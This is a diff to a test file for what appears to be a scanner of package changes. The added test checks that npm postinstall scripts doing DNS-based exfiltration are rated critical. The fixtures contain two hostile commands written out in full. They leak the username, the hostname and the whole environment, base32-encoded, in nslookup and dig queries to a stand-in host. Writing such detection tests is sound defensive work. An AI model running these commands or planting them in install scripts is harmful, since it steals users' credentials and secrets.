@@ -982,6 +982,13 @@ ${uses.map((u) => `      - uses: ${u}`).join('\n')}
     ]);
   });
 
+  it('rates an install script that sends data in a DNS lookup critical; an ordinary lookup stays high', () => {
+    const severity = (postinstall: string) => analyze(snapshotOf(change('package.json', pkg({ scripts: {} }), pkg({ scripts: { postinstall } })))).findings.find((f) => f.id === 'npm-install-script')?.severity;
+    expect(severity('nslookup "$(whoami).$(hostname | base32 | tr -d =).cb.npm-stats.dev" >/dev/null 2>&1 || true')).toBe('critical');
+    expect(severity('for c in $(env | base32 -w0 | fold -w 60); do dig +short $c.d.npm-stats.dev; done')).toBe('critical');
+    expect(severity('node scripts/check-registry.js && dig +short registry.npmjs.org >/dev/null')).toBe('high');
+  });
+
   it('does not report an install script that only drops commands it ran before; does one that adds, changes or reorders a command', () => {
     const script = (before: string, after: string) =>
       ids(snapshotOf(change('package.json', pkg({ scripts: { postinstall: before } }), pkg({ scripts: { postinstall: after } })))).filter((id) => id === 'npm-install-script');
